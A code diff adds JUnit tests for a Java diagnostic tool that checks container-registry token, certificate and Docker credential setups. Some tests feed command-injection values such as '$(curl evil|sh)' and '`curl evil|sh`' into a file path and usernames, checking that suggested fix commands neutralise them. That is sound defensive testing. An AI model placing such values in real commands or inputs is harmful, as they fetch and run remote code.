@@ -82,6 +82,7 @@ class DoctorTest {
   private TestCertificate signer = rsa;
   private Optional<TestCertificate> bundle = Optional.of(rsa);
   private Optional<String> jwks;
+  private String jwksWhere = "jwks.json";
   private String issuer = TokenServer.DEFAULT_ISSUER;
   private String service = TokenServer.DEFAULT_SERVICE;
   private TokenProfile profile = TokenProfile.DISTRIBUTION_3;
@@ -146,9 +147,11 @@ class DoctorTest {
   }
 
   private static String jwks(TestCertificate certificate, String keyId) {
-    return new JwksBuilder()
-        .add(VerificationKey.of(certificate.keys().getPublic(), KeyIdStyle.parse(keyId)))
-        .build();
+    return new JwksBuilder().add(verificationKey(certificate, keyId)).build();
+  }
+
+  private static VerificationKey verificationKey(TestCertificate certificate, String keyId) {
+    return VerificationKey.of(certificate.keys().getPublic(), KeyIdStyle.parse(keyId));
   }
 
   private void registry(HttpExchange exchange) throws IOException {
@@ -205,9 +208,9 @@ class DoctorTest {
       certificates = Optional.of(Source.of("bundle.crt", bundle.get().certificatePem()));
     }
     return new Setup(
-        Optional.of(RegistryVersion.parse(version)),
+        Optional.of(version).filter(text -> !text.isEmpty()).map(RegistryVersion::parse),
         Optional.of(Source.of("config.yml", config)),
-        jwks.map(text -> Source.of("jwks.json", text)),
+        jwks.map(text -> Source.of(jwksWhere, text)),
         certificates,
         new TokenServer(
             issuer, service, profile, keyId, "tls.key and tls.crt", new KeyEntries(keys)),
@@ -376,6 +379,25 @@ class DoctorTest {
     assertOnly("key-differs", "another key as", "jwks.json", "jwks --cert tls.crt > jwks.json");
   }
 
+  @Test
+  void keyDiffers_pathThatOthersWrote_isOneWordOfTheCommand() throws Exception {
+    jwks = Optional.of(jwks(other, KeyIdStyle.DEFAULT_KEY_ID));
+    jwksWhere = "/srv/$(curl evil|sh)";
+    assertOnly("key-differs", "another key as", "/srv/", "> '/srv/$(curl evil|sh)'`");
+  }
+
+  @Test
+  void keyDiffers_inASetOfSeveralKeys_theOthersAreKept() throws Exception {
+    jwks =
+        Optional.of(
+            new JwksBuilder()
+                .add(verificationKey(other, KeyIdStyle.DEFAULT_KEY_ID))
+                .add(verificationKey(ec, "next"))
+                .build());
+    assertOnly("key-differs", "another key as", "jwks.json", "keep the others");
+    assertThat(examine(setup()).findings().get(0).fix()).doesNotContain("> jwks.json");
+  }
+
   /** Without the private key, the certificate says as much. */
   @Test
   void keyDiffers_byTheCertificateAlone() throws Exception {
@@ -468,6 +490,19 @@ class DoctorTest {
     assertThat(examine(setup()).findings()).isEmpty();
     profile = TokenProfile.DISTRIBUTION_2_8;
     assertOnly("certificate-expired", "is valid from", "tls.key and tls.crt", "renew");
+  }
+
+  @Test
+  void certificateExpired_ofAnAuthority_isNotSaidToBeOfAnother() throws Exception {
+    signer = rsa.issueExpired("CN=signer");
+    jwks = Optional.of(jwks(signer, KeyIdStyle.DEFAULT_KEY_ID));
+    profile = TokenProfile.DISTRIBUTION_2_8;
+    assertOnly("certificate-expired", "CN=signer", "tls.key and tls.crt", "renew");
+
+    bundle = Optional.of(other);
+    assertThat(examine(setup()).findings())
+        .extracting(finding -> finding.id().toString())
+        .containsExactly("certificate-expired", "key-differs");
   }
 
   @Test
@@ -566,6 +601,28 @@ class DoctorTest {
     assertOnly("registry-restart", "it answers 401", registryUrl, "restart the registry");
   }
 
+  /** Nobody knows then which rules it goes by. */
+  @Test
+  void tokenRefused_byARegistryOfUnknownVersion() throws Exception {
+    version = "";
+    tokenStatus = 401;
+    assertOnly("token-refused", "it answers 401", registryUrl, "--registry-version");
+  }
+
+  @ParameterizedTest
+  @ValueSource(ints = {429, 503})
+  void token_thatTheRegistryDoesNotJudge_isNotChecked(int status) throws Exception {
+    tokenStatus = status;
+    Report report = examine(setup());
+    assertThat(report.findings()).as(report.text()).isEmpty();
+    assertThat(report.notChecked())
+        .anySatisfy(
+            each -> {
+              assertThat(each.what()).startsWith("whether the registry takes");
+              assertThat(each.why()).contains("it answers " + status);
+            });
+  }
+
   @Test
   void clockSkew() throws Exception {
     now = now.plus(Duration.ofMinutes(2));
@@ -601,6 +658,53 @@ class DoctorTest {
     assertThat(report.notChecked()).anySatisfy(each -> assertThat(each.why()).contains("desktop"));
   }
 
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "{\"credsStore\":\"pass\"}",
+        "{\"credHelpers\":{\"HOST\":\"pass\"}}",
+        "{\"auths\":{\"HOST\":{\"auth\":\"?\"}},\"credHelpers\":{\"HOST\":\"pass\"}}",
+        "{\"auths\":{\"HOST\":{}},\"credsStore\":\"pass\"}"
+      })
+  void dockerConfig_withAHelperForTheHost_isNotChecked(String text) throws Exception {
+    dockerConfig = text.replace("HOST", "localhost:" + registry.getAddress().getPort());
+    Report report = examine(setup());
+    assertThat(report.findings()).as(report.text()).isEmpty();
+    assertThat(report.notChecked())
+        .anySatisfy(each -> assertThat(each.why()).contains("the helper pass"));
+  }
+
+  @Test
+  void dockerConfig_withHelpersForOthers_hasNoEntry() throws Exception {
+    dockerConfig = "{\"credHelpers\":{\"other.example.com\":\"pass\"}}";
+    assertOnly("docker-config-host", "but for nobody", "config.json: auths", "docker login");
+  }
+
+  @Test
+  void dockerConfig_withAnIdentityToken_isNotChecked() throws Exception {
+    loginStatus = 401;
+    String auth = Base64.getEncoder().encodeToString("test-build:".getBytes(UTF_8));
+    dockerConfig =
+        "{\"auths\":{\"localhost:%d\":{\"auth\":\"%s\",\"identitytoken\":\"t\"}}}"
+            .formatted(registry.getAddress().getPort(), auth);
+    Report report = examine(setup());
+    assertThat(report.findings()).as(report.text()).isEmpty();
+    assertThat(report.notChecked())
+        .anySatisfy(each -> assertThat(each.why()).contains("an identity token"));
+  }
+
+  /** Docker's clients shorten keys when they find none that is the host's. */
+  @ParameterizedTest
+  @ValueSource(strings = {"https://HOST", "https://HOST/v2/", "http://HOST", "HOST/v1/"})
+  void dockerConfig_keyThatIsAUrlOfTheHost_isFound(String key) throws Exception {
+    String host = "localhost:" + registry.getAddress().getPort();
+    dockerConfig = dockerConfig(key.replace("HOST", host), "test-build");
+    Report report = examine(setup());
+    assertThat(report.findings()).as(report.text()).isEmpty();
+    assertThat(report.checked())
+        .anyMatch(line -> line.startsWith("the realm takes the password of config.json"));
+  }
+
   @Test
   void usernameDiffers() throws Exception {
     tenant = Optional.of("other");
@@ -612,6 +716,29 @@ class DoctorTest {
     loginStatus = 401;
     assertOnly(
         "password-refused", "refuses the password", "config.json", "tenant create test-build");
+  }
+
+  @Test
+  void passwordRefused_ofAnotherAccount_itsSecretIsNamed() throws Exception {
+    tenant = Optional.empty();
+    dockerConfig = dockerConfig("localhost:" + registry.getAddress().getPort(), "team+ci");
+    loginStatus = 401;
+    assertOnly(
+        "password-refused",
+        "\"team+ci\"",
+        "config.json",
+        "Secret ci-registry-credentials in the namespace team");
+    assertThat(examine(setup()).findings().get(0).fix()).doesNotContain("tenant create");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"team+$(curl evil|sh)", "team$(curl evil|sh)", "`curl evil|sh`"})
+  void passwordRefused_userNameOfOthers_isNoPartOfACommand(String username) throws Exception {
+    tenant = Optional.empty();
+    dockerConfig = dockerConfig("localhost:" + registry.getAddress().getPort(), username);
+    loginStatus = 401;
+    assertOnly("password-refused", "the password", "config.json", "valid is NAMESPACE");
+    assertThat(examine(setup()).findings().get(0).fix()).doesNotContain("curl", "`");
   }
 
   @Test
